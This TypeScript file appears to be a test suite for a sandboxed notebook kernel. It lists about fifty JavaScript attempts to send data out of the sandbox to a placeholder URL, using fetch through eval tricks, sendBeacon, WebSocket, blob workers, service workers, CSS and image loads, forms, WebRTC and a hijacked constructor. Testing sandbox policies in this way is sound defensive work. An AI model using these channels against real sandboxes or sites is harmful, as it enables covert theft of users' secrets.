import type { Attempt } from '../attempt.ts';

const READ = '.then((response) => response.text())';
const append = (element: string, members: string): string => `
  const element = document.createElement('${element}');
  Object.assign(element, { ${members} });
  document.body.append(element);
  await new Promise((resolve) => { element.onload = element.onerror = resolve; setTimeout(resolve, 300); });
  element.remove();`;

const workerOf = (script: string): string => `
  const blob = new Blob([${JSON.stringify(script)}.replace('$URL', $url)], { type: 'text/javascript' });
  const worker = new Worker(URL.createObjectURL(blob));
  await new Promise((resolve) => { worker.onmessage = worker.onerror = resolve; setTimeout(resolve, 500); });
  worker.terminate();`;

/** Ways to send anything to anyone. */
export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  { name: 'fetch', code: `return globalThis.fetch($url)${READ};`, control: 'worker' },
  {
    name: "fetch by the name that cells have, which is the lab's",
    code: `return fetch($url)${READ};`,
    control: 'worker',
  },
  {
    name: 'fetch without cors',
    code: `await globalThis.fetch($url, { mode: 'no-cors' });`,
    control: 'worker',
  },
  {
    name: 'fetch with keepalive after the cell has ended',
    code: `setTimeout(() => globalThis.fetch($url, { keepalive: true, mode: 'no-cors' }), 20);`,
    control: 'page',
  },
  {
    name: 'fetch through a function made from text',
    code: `return new Function('url', 'return fetch(url)')($url)${READ};`,
    control: 'worker',
  },
  {
    name: 'fetch through the constructor of an async generator',
    code: `const Generator = (async function* () {}).constructor;
      for await (const text of new Generator('url', 'yield (await fetch(url)).text()')($url)) return text;`,
    control: 'worker',
  },
  {
    name: 'fetch through indirect eval',
    code: `return (0, eval)('(url) => fetch(url)')($url)${READ};`,
    control: 'worker',
  },
  {
    name: 'fetch from the prototype of the global scope',
    code: `const scopes = [];
      for (let scope = globalThis; scope; scope = Object.getPrototypeOf(scope)) scopes.push(scope);
      const found = scopes.map((scope) => Object.getOwnPropertyDescriptor(scope, 'fetch')?.value).find(Boolean);
      return found.call(globalThis, $url)${READ};`,
    control: 'worker',
  },
  {
    name: 'XMLHttpRequest',
    code: `const request = new XMLHttpRequest(); request.open('GET', $url, false); request.send(); return request.responseText;`,
    control: 'worker',
  },
  {
    name: 'WebSocket',
    code: `const socket = new WebSocket($socket);
      await new Promise((resolve) => { socket.onopen = socket.onerror = resolve; });`,
    control: 'worker',
  },
  {
    name: 'EventSource',
    code: `const source = new EventSource($url);
      await new Promise((resolve) => { source.onopen = source.onerror = resolve; }); source.close();`,
    control: 'worker',
  },
  {
    name: 'WebSocketStream',
    code: `await new WebSocketStream($socket).opened;`,
    control: 'worker',
    lackedBy: ['chromium', 'firefox', 'webkit'],
  },
  {
    name: 'WebTransport, which Firefox does not put under the policy',
    code: `const transport = new WebTransport($url.replace('http:', 'https:')); await transport.ready;`,
    control: null,
    note: 'the counting server speaks no QUIC; that there is no constructor is asked by another attempt',
  },
  {
    name: 'having a WebTransport at all',
    code: `if (typeof WebTransport === 'function') return '$SECRET';`,
    control: 'worker',
    lackedBy: ['webkit'],
  },
  { name: 'sendBeacon', code: `navigator.sendBeacon($url, 'loot');`, control: 'page' },
  { name: 'importScripts', code: `importScripts($url + '.js');`, control: 'worker' },
  { name: 'a dynamic import', code: `await import($url + '.js');`, control: 'worker' },
  {
    name: 'a dynamic import of JSON',
    code: `await import($url + '.json', { with: { type: 'json' } });`,
    control: 'page',
  },
  {
    name: 'a dynamic import of a data URL that fetches',
    code: `await import('data:text/javascript,' + encodeURIComponent('await fetch("' + $url + '", { mode: "no-cors" })'));`,
    control: 'page',
  },
  {
    name: 'a dynamic import of a blob that fetches',
    code: `const blob = new Blob(['await fetch("' + $url + '", { mode: "no-cors" })'], { type: 'text/javascript' });
      await import(URL.createObjectURL(blob));`,
    control: 'page',
  },
  {
    name: 'a worker from an address',
    code: `new Worker($url + '.js'); await new Promise((r) => setTimeout(r, 200));`,
    control: 'page',
  },
  {
    name: 'a worker of a blob that fetches',
    code: workerOf(`fetch('$URL', { mode: 'no-cors' }).then(() => postMessage(1))`),
    control: 'page',
  },
  {
    name: 'a worker of a blob that imports',
    code: workerOf(`importScripts('$URL.js'); postMessage(1)`),
    control: 'page',
  },
  {
    name: 'a worker whose constructor comes from an event that a cell overheard',
    code: `let Found;
      const listen = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (...args) { Found ??= this.constructor; return listen.apply(this, args); };
      new AbortController().signal.addEventListener('abort', () => 0);
      const model = new RandomForestClassifier({ nEstimators: 8, randomState: 1 });
      await model.fit([[0], [1], [2], [3]], [0, 1, 0, 1]);
      await globalThis.fetch.call(new Found($url), $url);`,
    control: null,
    note: 'needs the kernel that it attacks',
  },
  {
    name: 'a shared worker',
    code: `new SharedWorker($url + '.js'); await new Promise((r) => setTimeout(r, 200));`,
    control: 'page',
  },
  {
    name: 'a service worker',
    code: `await navigator.serviceWorker.register($url + '.js');`,
    control: 'page',
  },
  {
    name: 'a worklet',
    code: `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule($url + '.js');`,
    control: 'page',
  },
  { name: 'an image', code: append('img', 'src: $url'), control: 'page' },
  {
    name: 'an image that is not in the page',
    code: `new Image().src = $url; await new Promise((r) => setTimeout(r, 200));`,
    control: 'page',
  },
  { name: 'a style sheet', code: append('link', "rel: 'stylesheet', href: $url"), control: 'page' },
  {
    name: 'an import in a style',
    code: append('style', "textContent: '@import url(\"' + $url + '\")'"),
    control: 'page',
  },
  {
    name: 'a background image',
    code: append('div', "textContent: 'x', style: 'background: url(\"' + $url + '\")'"),
    control: 'page',
  },
  {
    name: 'a prefetch',
    code: append('link', "rel: 'prefetch', href: $url"),
    control: 'page',
    lackedBy: ['webkit'],
  },
  { name: 'a preload', code: append('link', "rel: 'preload', as: 'image', href: $url"), control: 'page' },
  { name: 'a script', code: append('script', "src: $url + '.js'"), control: 'page' },
  { name: 'a frame', code: append('iframe', 'src: $url'), control: 'page' },
  { name: 'a video', code: append('video', "src: $url, preload: 'auto'"), control: 'page' },
  { name: 'an object', code: append('object', 'data: $url'), control: 'page' },
  {
    name: 'a form',
    code: `const frame = document.createElement('iframe'); frame.name = 'target'; document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { action: $url, target: 'target' });
      document.body.append(form); form.submit(); await new Promise((r) => setTimeout(r, 300)); form.remove(); frame.remove();`,
    control: 'page',
  },
  {
    name: 'markup that loads an image',
    code: `const host = document.createElement('div'); host.innerHTML = '<img src="' + $url + '">';
      document.body.append(host); await new Promise((r) => setTimeout(r, 200)); host.remove();`,
    control: 'page',
  },
  {
    name: 'a font',
    code: `await new FontFace('loot', 'url("' + $url + '")').load();`,
    control: 'worker',
  },
  {
    name: 'WebRTC',
    code: `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
      connection.createDataChannel('loot'); await connection.setLocalDescription(); return '$SECRET';`,
    control: 'page',
    lackedBy: ['firefox', 'webkit'],
  },
  {
    name: 'compiling WebAssembly from an address',
    code: `await WebAssembly.compileStreaming(globalThis.fetch($url));`,
    control: 'worker',
  },
  {
    name: 'a request through the simulated API by another name of this computer',
    code: `return fetch($url.replace('127.0.0.1', 'localhost'))${READ};`,
    control: 'worker',
  },
  {
    name: 'a request through the simulated API by an address without a scheme',
    code: `return fetch($url.replace('http:', ''))${READ};`,
    control: 'page',
  },
  {
    name: 'a request through the simulated API by an object that changes its mind',
    code: `let n = 0; return fetch({ toString: () => (n++ === 0 ? '/health' : $url) })${READ};`,
    control: null,
    note: "the lab's fetch reads an address once",
  },
];
